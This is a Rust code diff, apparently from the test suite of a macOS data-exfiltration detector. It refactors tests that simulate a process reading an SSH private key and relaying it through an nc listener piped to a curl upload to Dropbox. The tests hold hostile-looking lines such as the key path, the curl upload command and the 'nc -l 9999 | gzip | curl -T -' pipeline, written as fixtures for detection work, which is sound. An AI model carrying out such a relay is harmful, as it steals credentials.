@@ -1,11 +1,11 @@
 //! What comes over a local port and leaves by a way that changes it, or by a program that the listener starts.
 
+use super::hops::{NC, second_hop_if};
 use super::world::*;
 
 const KEY: &str = "/Users/alice/.ssh/id_rsa";
 const DROPBOX: &str = "content.dropboxapi.com";
 const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
-const NC: Program = apple("/usr/bin/nc", "com.apple.nc");
 const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
 const TO: [&str; 4] = ["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"];
 
@@ -21,15 +21,6 @@ fn sends_a_key(w: &mut World, at: f64, listener: &Proc, reads: bool, bytes: usiz
     w.plain(at + 0.21, &mut local, true, &vec![b'x'; bytes]);
     w.close(at + 0.5, &mut local);
     w.exit(at + 0.6, &thief);
-}
-
-#[track_caller]
-fn second_hop_if(low: bool, told: &Told) {
-    if low {
-        assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
-    } else {
-        told.none();
-    }
 }
 
 /// `nc -l 9999 | gzip | curl -T - ..`: what leaves is smaller than what came, or larger where it is encoded.
